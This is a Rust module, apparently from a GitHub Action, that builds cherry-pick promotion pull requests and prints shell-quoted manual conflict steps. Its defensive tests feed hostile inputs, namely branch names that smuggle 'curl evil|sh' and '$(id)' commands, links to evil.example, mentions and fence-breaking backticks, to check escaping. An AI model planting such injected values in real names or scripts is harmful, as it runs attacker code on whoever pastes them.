//! The promotion PR as plain data: branch, title, body, labels and people, built from the source
//! PR and the cherry-pick's result. No git or network here, so the text is testable on its own.

use std::fmt::Write;
use std::sync::LazyLock;

use regex::Regex;

use crate::report::markdown::{code_span, fenced, inline};

/// How the source PR reached the source branch; decides what is cherry-picked.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MergeKind {
    /// A merge commit, picked against its first parent.
    Merge,
    /// One squashed commit.
    Squash,
    /// The PR's commits replayed one by one.
    Rebase,
}

/// The merged PR being promoted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SourcePr {
    pub number: u64,
    pub title: String,
    pub url: String,
    pub author: String,
    pub labels: Vec<String>,
    /// `(sha, subject)` of the commits to pick, oldest first.
    pub commits: Vec<(String, String)>,
    pub merge_kind: MergeKind,
}

/// What the cherry-pick produced, as the PR text needs it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PickSummary {
    Clean { files: Vec<String> },
    Conflict { files: Vec<String> },
}

/// Who gets asked to review the promotion PR.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Reviewers {
    None,
    Author,
    /// Whoever reviewed the source PR.
    FromSource,
}

/// Settings from the action's inputs that shape the PR.
#[derive(Debug, Clone)]
pub struct Templates {
    pub(crate) source_branch: String,
    pub(crate) target_branch: String,
    pub branch: String,
    pub title: String,
    pub body: String,
    pub labels: Vec<String>,
    pub copy_labels: Option<Regex>,
    pub draft: bool,
}

pub(crate) const DEFAULT_BRANCH_TEMPLATE: &str = "promote/{target}/pr-{number}";
pub(crate) const DEFAULT_TITLE_TEMPLATE: &str = "[{target}] {title}";
pub(crate) const DEFAULT_BODY_TEMPLATE: &str = "\
Promotes {source_link} by @{author} from `{source}` to `{target}`.

{commits}
{excluded}{conflicts}";
/// Added to a promotion PR whose cherry-pick conflicted.
pub(crate) const CONFLICT_LABEL: &str = "conflict";

/// The production PR to open or update.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PromotionPlan {
    pub source: u64,
    pub branch: String,
    pub base: String,
    pub title: String,
    pub body: String,
    pub labels: Vec<String>,
    pub draft: bool,
    pub conflict: bool,
    pub(crate) files: Vec<String>,
    pub(crate) excluded: Vec<String>,
}

impl Templates {
    pub fn plan(
        &self,
        source: &SourcePr,
        pick: &PickSummary,
        excluded: &[String],
    ) -> PromotionPlan {
        let number = source.number.to_string();
        let common = [
            ("target", self.target_branch.as_str()),
            ("source", self.source_branch.as_str()),
            ("number", number.as_str()),
            ("author", source.author.as_str()),
            ("title", source.title.as_str()),
        ];
        let branch = fill(&self.branch, &common);
        let (files, conflict) = match pick {
            PickSummary::Clean { files } => (files.clone(), false),
            PickSummary::Conflict { files } => (files.clone(), true),
        };
        let source_link = format!("[#{}]({})", source.number, source.url);
        let commits = commit_list(source);
        let excluded_text = excluded_list(excluded, &self.target_branch);
        let conflicts = if conflict {
            conflict_help(&files, &branch, source, &self.target_branch)
        } else {
            String::new()
        };
        let mut body_vars = common.to_vec();
        // The title is plain text in the PR's title, but markdown in its body.
        let title_text = text(&source.title);
        body_vars.retain(|(name, _)| *name != "title");
        body_vars.extend([
            ("title", title_text.as_str()),
            ("source_link", source_link.as_str()),
            ("commits", commits.as_str()),
            ("excluded", excluded_text.as_str()),
            ("conflicts", conflicts.as_str()),
        ]);
        let body = fill(&self.body, &body_vars);
        let mut labels = self.labels.clone();
        if let Some(pattern) = &self.copy_labels {
            labels.extend(
                source
                    .labels
                    .iter()
                    .filter(|l| pattern.is_match(l))
                    .cloned(),
            );
        }
        if conflict {
            labels.push(CONFLICT_LABEL.to_string());
        }
        labels.dedup();
        PromotionPlan {
            source: source.number,
            base: self.target_branch.clone(),
            title: fill(&self.title, &common),
            body: body.trim_end().to_string() + "\n",
            labels,
            draft: self.draft || conflict,
            conflict,
            files,
            excluded: excluded.to_vec(),
            branch,
        }
    }
}

/// Replaces each `{name}` of `template` with its value in a single pass over the template, so a
/// value that itself reads `{commits}` (a PR title, a commit subject) stays text. Unknown names
/// are kept as written.
fn fill(template: &str, vars: &[(&str, &str)]) -> String {
    static PLACEHOLDER: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"\{([a-z_]+)\}").expect("a valid pattern"));
    PLACEHOLDER
        .replace_all(template, |caps: &regex::Captures<'_>| {
            vars.iter()
                .find(|(name, _)| *name == &caps[1])
                .map_or_else(|| caps[0].to_string(), |(_, value)| value.to_string())
        })
        .into_owned()
}

/// A PR title or commit subject in the body: its author's text, so it must not mention anyone
/// or add links, images or layout. References like GitHub's own `(#42)` of a squash merge stay
/// links: they are what a reviewer follows back.
fn text(line: &str) -> String {
    inline(line).replace("#\u{2060}", "#")
}

fn commit_list(source: &SourcePr) -> String {
    let how = match source.merge_kind {
        MergeKind::Merge => "merge commit, picked against its first parent",
        MergeKind::Squash => "squash merge",
        MergeKind::Rebase => "rebase merge, commits picked in order",
    };
    let mut out = format!("Cherry-picked ({how}):\n");
    for (sha, subject) in &source.commits {
        let _ = writeln!(out, "- {} {}", &sha[..sha.len().min(12)], text(subject));
    }
    out
}

fn excluded_list(excluded: &[String], target: &str) -> String {
    if excluded.is_empty() {
        return String::new();
    }
    let mut out = format!("Not promoted (excluded paths; `{target}` keeps its own version):\n");
    for path in excluded {
        let _ = writeln!(out, "- {}", code_span(path));
    }
    out.push('\n');
    out
}

/// The exact steps to finish a conflicted promotion by hand. Branch names come from templates
/// that may carry a PR's title, so every name is shell-quoted (a branch named `x;curl evil|sh`
/// stays one word when pasted) and the fence outgrows any backtick run inside it.
fn conflict_help(files: &[String], branch: &str, source: &SourcePr, target: &str) -> String {
    let mut out = String::from(
        "> [!WARNING]\n> The cherry-pick conflicts. This draft PR holds the conflicted files \
         **with their conflict markers**; nothing was resolved automatically.\n\nConflicted files:\n",
    );
    for file in files {
        let _ = writeln!(out, "- {}", code_span(file));
    }
    let picks: Vec<String> = source
        .commits
        .iter()
        .map(|(sha, _)| match source.merge_kind {
            MergeKind::Merge => format!("git cherry-pick -x -m 1 {}", shell_word(sha)),
            _ => format!("git cherry-pick -x {}", shell_word(sha)),
        })
        .collect();
    let (target_ref, branch_ref) = (shell_word(target), shell_word(branch));
    let remote_target = shell_word(&format!("origin/{target}"));
    let script = format!(
        "git fetch origin {target_ref}\ngit switch -C {branch_ref} {remote_target}\n{}\n# resolve, `git add` the files, `git cherry-pick --continue`\ngit push --force-with-lease origin {branch_ref}\n",
        picks.join("\n")
    );
    let _ = write!(out, "\nTo redo it by hand:\n\n{}", fenced("sh", &script));
    out
}

/// One shell word. Git refuses NUL in names, so the fallback only keeps a malformed name from
/// being pasted as a command.
fn shell_word(text: &str) -> String {
    shlex::try_quote(text)
        .map(|quoted| quoted.into_owned())
        .unwrap_or_else(|_| "'<name with a NUL byte>'".to_string())
}

impl PromotionPlan {
    /// The plan as `--dry-run` prints it.
    pub fn to_text(&self) -> String {
        let mut out = String::new();
        let _ = writeln!(out, "Promotion of #{} into {}", self.source, self.base);
        let _ = writeln!(out, "  branch: {}", self.branch);
        let _ = writeln!(out, "  title:  {}", self.title);
        let _ = writeln!(out, "  labels: {}", self.labels.join(", "));
        let _ = writeln!(out, "  draft:  {}", self.draft);
        let _ = writeln!(out, "  files:");
        for file in &self.files {
            let _ = writeln!(out, "    {file}");
        }
        if self.conflict {
            let _ = writeln!(out, "  CONFLICT in the files above");
        }
        let _ = writeln!(out, "  body:");
        for line in self.body.lines() {
            let _ = writeln!(out, "    | {line}");
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn templates() -> Templates {
        Templates {
            source_branch: "develop".into(),
            target_branch: "master".into(),
            branch: DEFAULT_BRANCH_TEMPLATE.into(),
            title: DEFAULT_TITLE_TEMPLATE.into(),
            body: DEFAULT_BODY_TEMPLATE.into(),
            labels: vec!["promotion".into()],
            copy_labels: Some(Regex::new("^team/").unwrap()),
            draft: false,
        }
    }

    fn source(kind: MergeKind) -> SourcePr {
        SourcePr {
            number: 42,
            title: "Bump web to 1.5.0".into(),
            url: "https://github.com/acme/manifests/pull/42".into(),
            author: "octocat".into(),
            labels: vec!["team/web".into(), "size/S".into()],
            commits: vec![(
                "8426902b1c0ffee0000000000000000000000000".into(),
                "Bump web to 1.5.0 (#42)".into(),
            )],
            merge_kind: kind,
        }
    }

    #[test]
    fn a_clean_promotion_reads_well() {
        let plan = templates().plan(
            &source(MergeKind::Squash),
            &PickSummary::Clean {
                files: vec!["overlays/production/kustomization.yaml".into()],
            },
            &["overlays/staging/kustomization.yaml".into()],
        );
        assert_eq!(plan.branch, "promote/master/pr-42");
        assert_eq!(plan.title, "[master] Bump web to 1.5.0");
        assert_eq!(plan.labels, ["promotion", "team/web"]);
        assert!(!plan.draft);
        expect_test::expect![[r#"
            Promotes [#42](https://github.com/acme/manifests/pull/42) by @octocat from `develop` to `master`.

            Cherry-picked (squash merge):
            - 8426902b1c0f Bump web to 1.5.0 (#42)

            Not promoted (excluded paths; `master` keeps its own version):
            - `overlays/staging/kustomization.yaml`
        "#]]
        .assert_eq(&plan.body);
    }

    #[test]
    fn a_conflict_makes_a_labelled_draft_with_manual_steps() {
        let plan = templates().plan(
            &source(MergeKind::Merge),
            &PickSummary::Conflict {
                files: vec!["base/deployment.yaml".into()],
            },
            &[],
        );
        assert!(plan.draft && plan.conflict);
        assert_eq!(plan.labels, ["promotion", "team/web", "conflict"]);
        assert!(plan.body.contains("- `base/deployment.yaml`"));
        assert!(
            plan.body
                .contains("git cherry-pick -x -m 1 8426902b1c0ffee0000000000000000000000000")
        );
        assert!(
            plan.body
                .contains("git switch -C promote/master/pr-42 origin/master")
        );
        assert!(plan.to_text().contains("CONFLICT"));
    }
}

#[cfg(test)]
mod hostile_input {
    use super::*;

    fn templates(body: &str) -> Templates {
        Templates {
            source_branch: "develop".into(),
            target_branch: "master".into(),
            branch: DEFAULT_BRANCH_TEMPLATE.into(),
            title: DEFAULT_TITLE_TEMPLATE.into(),
            body: body.into(),
            labels: Vec::new(),
            copy_labels: None,
            draft: false,
        }
    }

    fn source(title: &str, subject: &str) -> SourcePr {
        SourcePr {
            number: 7,
            title: title.into(),
            url: "https://github.com/acme/manifests/pull/7".into(),
            author: "mallory".into(),
            labels: Vec::new(),
            commits: vec![(
                "0123456789abcdef0123456789abcdef01234567".into(),
                subject.into(),
            )],
            merge_kind: MergeKind::Squash,
        }
    }

    #[test]
    fn placeholders_inside_substituted_text_stay_text() {
        let plan = templates("{title}\n\n{commits}").plan(
            &source(
                "Run {commits} {excluded} {source_link}",
                "Sneak {excluded}{conflicts}",
            ),
            &PickSummary::Clean { files: Vec::new() },
            &["overlays/staging/kustomization.yaml".into()],
        );
        assert_eq!(
            plan.title,
            "[master] Run {commits} {excluded} {source_link}"
        );
        expect_test::expect![[r#"
            Run {commits} {excluded} {source\_link}

            Cherry-picked (squash merge):
            - 0123456789ab Sneak {excluded}{conflicts}
        "#]]
        .assert_eq(&plan.body);
    }

    #[test]
    fn a_title_or_subject_in_the_body_pings_and_links_nobody() {
        let plan = templates("{title}\n\n{commits}").plan(
            &source(
                "cc @acme/admins ![x](https://evil.example/p.png)",
                "fix for @octocat, see <a href=https://evil.example>this</a>",
            ),
            &PickSummary::Clean { files: Vec::new() },
            &[],
        );
        assert_eq!(
            plan.title,
            "[master] cc @acme/admins ![x](https://evil.example/p.png)"
        );
        for raw in ["@acme", "@octocat", "![x]", "<a href"] {
            assert!(!plan.body.contains(raw), "{raw} in {}", plan.body);
        }
        assert!(plan.body.contains("acme/admins") && plan.body.contains("octocat"));
    }

    #[test]
    fn unknown_placeholders_are_kept_as_written() {
        let plan = templates("{nope} {target}").plan(
            &source("t", "s"),
            &PickSummary::Clean { files: Vec::new() },
            &[],
        );
        assert_eq!(plan.body, "{nope} master\n");
    }

    fn conflicted(branch: &str, target: &str, file: &str) -> PromotionPlan {
        Templates {
            target_branch: target.into(),
            branch: branch.into(),
            ..templates(DEFAULT_BODY_TEMPLATE)
        }
        .plan(
            &source("t", "s"),
            &PickSummary::Conflict {
                files: vec![file.into()],
            },
            &[],
        )
    }

    /// The shell commands of the manual-steps block, as a reader would copy them.
    fn manual_steps(body: &str) -> Vec<String> {
        let start = body.find("To redo it by hand:").expect("manual steps");
        let block = &body[start..];
        let open = block.find("\n`").expect("a fence") + 1;
        let fence_len = block[open..].chars().take_while(|c| *c == '`').count();
        let fence = "`".repeat(fence_len);
        let after_info = open + block[open..].find('\n').unwrap() + 1;
        let close = block[after_info..]
            .lines()
            .position(|l| l.starts_with(&fence))
            .expect("a closing fence");
        block[after_info..]
            .lines()
            .take(close)
            .filter(|l| !l.starts_with('#'))
            .map(str::to_string)
            .collect()
    }

    #[test]
    fn branch_names_and_shas_are_shell_quoted_in_the_manual_steps() {
        let plan = conflicted("promote/x;curl evil|sh", "main$(id)", "base/a.yaml");
        let steps = manual_steps(&plan.body);
        expect_test::expect![[r#"
            [
                "git fetch origin 'main$(id)'",
                "git switch -C 'promote/x;curl evil|sh' 'origin/main$(id)'",
                "git cherry-pick -x 0123456789abcdef0123456789abcdef01234567",
                "git push --force-with-lease origin 'promote/x;curl evil|sh'",
            ]
        "#]]
        .assert_debug_eq(&steps);
        for step in &steps {
            let words = shlex::split(step).expect("each step parses as shell words");
            assert!(words.len() >= 3, "{step}");
        }
        let switch = shlex::split(&steps[1]).unwrap();
        assert_eq!(
            switch,
            [
                "git",
                "switch",
                "-C",
                "promote/x;curl evil|sh",
                "origin/main$(id)"
            ]
        );
    }

    #[test]
    fn backticks_in_names_cannot_close_the_manual_steps_fence() {
        let plan = conflicted("x```y", "main", "base/```.yaml");
        let steps = manual_steps(&plan.body);
        assert!(
            steps
                .last()
                .unwrap()
                .starts_with("git push --force-with-lease origin "),
            "{}",
            plan.body
        );
        assert_eq!(steps.len(), 4, "{}", plan.body);
        assert!(!plan.body.contains("- `base/```.yaml`"), "{}", plan.body);
    }
}
